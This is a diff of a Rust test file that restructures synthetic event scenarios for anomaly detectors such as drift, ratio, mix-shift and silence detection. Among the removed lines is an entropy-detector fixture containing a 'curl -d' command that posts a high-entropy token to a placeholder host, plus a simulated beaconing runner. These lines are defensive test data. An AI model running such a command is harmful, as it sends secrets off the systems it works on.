@@ -92,142 +92,86 @@ fn hourly(from: i64, count: i64, event: impl Fn(i64) -> Value) -> History {
     (0..count).map(|hour| (from + hour * HOUR, event(hour))).collect()
 }
 
-fn scenarios() -> Vec<Scenario> {
-    let mut random = Random(3);
+fn one(detector: &'static str, history: History, tails: [History; 2], says: &'static str, resolves: bool) -> Scenario {
+    let [fires, silent] = tails;
+    Scenario { detector, history, fires, silent, says, resolves }
+}
+
+fn counts() -> Scenario {
     let spike = |n: i64| {
         let mut tail = vec![(21 * DAY + HOUR, json!({"team": "a", "who": "bob", "n": n}))];
         tail.extend(hourly(21 * DAY + 2 * HOUR, 3, |_| json!({"team": "a", "who": "ann", "n": 5})));
         tail
     };
-    let mut job = |at: i64, factor: u64| {
-        (
-            at,
-            json!({"w": "build", "pool": "p1", "id2": "j", "bytes": factor * (1_000_000 + random.below(200_000) as u64), "ms": 60_000}),
-        )
+    one(COUNTS, steady(21), [spike(46), spike(7)], "most of 46 by bob 46", true)
+}
+
+fn peers() -> Scenario {
+    let mut random = Random(3);
+    let mut job = |at: i64, factor: usize| {
+        let bytes = factor * (1_000_000 + random.below(200_000));
+        (at, json!({"w": "build", "pool": "p1", "job": "j", "bytes": bytes, "ms": 60_000}))
     };
     let jobs: History = (0..60).map(|run| job(run * HOUR, 1)).collect();
-    let (odd, even) = (vec![job(61 * HOUR, 90)], vec![job(61 * HOUR, 1)]);
+    let tails = [vec![job(61 * HOUR, 90)], vec![job(61 * HOUR, 1)]];
+    let detector = "{algo: peer_z, key: [w], peers: [pool], by: job, features: [{field: bytes, log: true}, {field: ms, log: true}]}";
+    one(detector, jobs, tails, "60 jobs of its group", false)
+}
+
+fn drift() -> Scenario {
+    let mut random = Random(5);
+    let mut crept = |hours: std::ops::Range<i64>, mean: usize| -> History {
+        hours.map(|hour| (hour * HOUR, json!({"tok": "t", "n": mean - 2 + random.below(5)}))).collect()
+    };
+    let rate = crept(0..28 * 24, 6);
+    let tails = [crept(28 * 24..31 * 24, 13), crept(28 * 24..31 * 24, 6)];
+    one("{algo: cusum, key: [tok], amount: n}", rate, tails, "expected", false)
+}
+
+fn durations() -> Scenario {
     let mut random = Random(4);
-    let mut run = |at: i64, ms: u64| (at, json!({"w": "test", "ms": ms + random.below(6_000) as u64}));
-    let runs: History = (0..120).map(|at| run(at * HOUR / 4, 57_000)).collect();
-    let slow: History = (0..60).map(|at| run((120 + at) * HOUR / 4, 80_000)).collect();
-    let same: History = (0..60).map(|at| run((120 + at) * HOUR / 4, 57_000)).collect();
+    let mut runs = |numbers: std::ops::Range<i64>, ms: usize| -> History {
+        numbers.map(|at| (at * HOUR / 4, json!({"w": "test", "ms": ms + random.below(6_000)}))).collect()
+    };
+    let history = runs(0..120, 57_000);
+    let tails = [runs(120..180, 80_000), runs(120..180, 57_000)];
+    one("{algo: duration_shift, key: [w], duration: ms}", history, tails, "runs took", false)
+}
+
+fn ratio() -> Scenario {
     let scan = |at: i64, bad: bool| (at, json!({"tool": "sast", "o": if bad { "failure" } else { "success" }}));
     let scans: History = (0..400).map(|at| scan(at * HOUR / 4, at % 100 == 0)).collect();
+    let tail = |bad: i64| (0..6).map(|at| scan(101 * HOUR + at, at < bad)).collect();
+    let detector = "{algo: ratio, key: [tool], bad: \"o == 'failure'\"}";
+    one(detector, scans, [tail(6), tail(1)], "its own 4 of 400", false)
+}
+
+fn mix() -> Scenario {
     let ops = ["read", "write", "list"];
-    let mixed = |hour: i64, op: &dyn Fn(i64) -> &'static str| -> History {
-        (0..60).map(|at| (hour * HOUR + at * 60_000, json!({"who": "svc", "op": op(at)}))).collect()
-    };
-    let usual = |at: i64| ops[(at % 3) as usize];
-    let mut random = Random(5);
-    let crept = |hours: std::ops::Range<i64>, mean: i64, random: &mut Random| -> History {
-        hours.map(|hour| (hour * HOUR, json!({"tok": "t", "n": mean - 2 + random.below(5) as i64}))).collect()
-    };
-    let rate = crept(0..28 * 24, 6, &mut random);
-    let (doubled, level) = (crept(28 * 24..31 * 24, 13, &mut random), crept(28 * 24..31 * 24, 6, &mut random));
-    let beat = |hours: std::ops::Range<i64>, of: &[&str]| -> History {
-        hours.flat_map(|at| of.iter().map(move |source| (at * HOUR / 10, json!({"source": source})))).collect()
-    };
-    let polls: History = (0..12)
-        .flat_map(|runner| {
-            (0..48 * 12).map(move |at| {
-                (at * 300_000 + 7, json!({"r": format!("r{runner}"), "d": "control", "j": "poll", "b": 300}))
-            })
+    let hour = |hour: i64, deletes: bool| {
+        (0..60).map(move |at| {
+            let op = if deletes { "delete" } else { ops[(at % 3) as usize] };
+            (hour * HOUR + at * 60_000, json!({"who": "svc", "op": op}))
         })
-        .collect();
-    let mut random = Random(6);
-    let beacon = (0..200)
-        .map(|at| {
-            (
-                36 * HOUR + at * 600_000 + random.below(6_000) as i64,
-                json!({"r": "r3", "d": "beat", "j": format!("j{}", at / 6), "b": 512}),
-            )
-        })
-        .collect();
-    let rare = vec![(36 * HOUR, json!({"r": "r3", "d": "once", "j": "j", "b": 9_000}))];
-    vec![
-        Scenario {
-            detector: COUNTS,
-            history: steady(21),
-            fires: spike(46),
-            silent: spike(7),
-            says: "most of 46 by bob 46",
-            resolves: true,
-        },
-        Scenario {
-            detector: "{algo: peer_z, key: [w], peers: [pool], by: id2, features: [{field: bytes, log: true}, {field: ms, log: true}]}",
-            history: jobs,
-            fires: odd,
-            silent: even,
-            says: "60 jobs of its group",
-            resolves: false,
-        },
-        Scenario {
-            detector: "{algo: cusum, key: [tok], amount: n}",
-            history: rate,
-            fires: doubled,
-            silent: level,
-            says: "expected",
-            resolves: false,
-        },
-        Scenario {
-            detector: "{algo: duration_shift, key: [w], duration: ms}",
-            history: runs,
-            fires: slow,
-            silent: same,
-            says: "runs took",
-            resolves: false,
-        },
-        Scenario {
-            detector: "{algo: ratio, key: [tool], bad: \"o == 'failure'\"}",
-            history: scans,
-            fires: (0..6).map(|at| scan(101 * HOUR + at, true)).collect(),
-            silent: (0..6).map(|at| scan(101 * HOUR + at, at == 0)).collect(),
-            says: "its own 4 of 400",
-            resolves: false,
-        },
-        Scenario {
-            detector: "{algo: beacon, key: [r, d], peers: [d], by: j, amount: b, runner: r}",
-            history: polls,
-            fires: beacon,
-            silent: rare,
-            says: "1 of 12 runners",
-            resolves: false,
-        },
-        Scenario {
-            detector: "{algo: entropy, field: txt, length_min: 40, bits: 4.5}",
-            history: vec![(0, json!({"txt": "npm ci && npm run build", "team": "a"}))],
-            fires: vec![(
-                HOUR,
-                json!({"txt": "curl -d q8Zk3vT1mXw9LrB0sYd7NcEoPa5UhJ2fGiKt4Vx6 https://x.example", "team": "a"}),
-            )],
-            silent: vec![(
-                HOUR,
-                json!({"txt": "sha256:9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08", "team": "a"}),
-            )],
-            says: "bits",
-            resolves: false,
-        },
-        Scenario {
-            detector: "{algo: mix_shift, key: [who], class: op}",
-            history: (0..200).flat_map(|hour| mixed(hour, &usual)).collect(),
-            fires: mixed(200, &|_| "delete").into_iter().chain(mixed(201, &usual)).chain(mixed(202, &usual)).collect(),
-            silent: (200..203).flat_map(|hour| mixed(hour, &usual)).collect(),
-            says: "delete 60 instead of",
-            resolves: true,
-        },
-        Scenario {
-            detector: "{algo: silence, key: [source]}",
-            history: beat(0..19 * 240, &["audit", "builds"]),
-            fires: beat(19 * 240..19 * 240 + 50, &["builds"])
-                .into_iter()
-                .chain(beat(19 * 240 + 50..19 * 240 + 90, &["audit", "builds"]))
-                .collect(),
-            silent: beat(19 * 240..19 * 240 + 50, &["audit", "builds"]),
-            says: "nothing for",
-            resolves: true,
-        },
-    ]
+    };
+    let history = (0..200).flat_map(|at| hour(at, false)).collect();
+    let tail = |deletes: bool| hour(200, deletes).chain(hour(201, false)).chain(hour(202, false)).collect();
+    let detector = "{algo: mix_shift, key: [who], class: op}";
+    one(detector, history, [tail(true), tail(false)], "delete 60 instead of", true)
+}
+
+fn silence() -> Scenario {
+    let beat = |tenths: std::ops::Range<i64>, of: &[&str]| -> History {
+        tenths.flat_map(|at| of.iter().map(move |source| (at * HOUR / 10, json!({"source": source})))).collect()
+    };
+    let (both, end) = (["audit", "builds"], 19 * 240);
+    let away = beat(end..end + 50, &["builds"]).into_iter().chain(beat(end + 50..end + 90, &both)).collect();
+    let tails = [away, beat(end..end + 50, &both)];
+    one("{algo: silence, key: [source]}", beat(0..end, &both), tails, "nothing for", true)
+}
+
+fn scenarios() -> Vec<Scenario> {
+    vec![counts(), peers(), drift(), durations(), ratio(), mix(), silence()]
 }
 
 #[test]
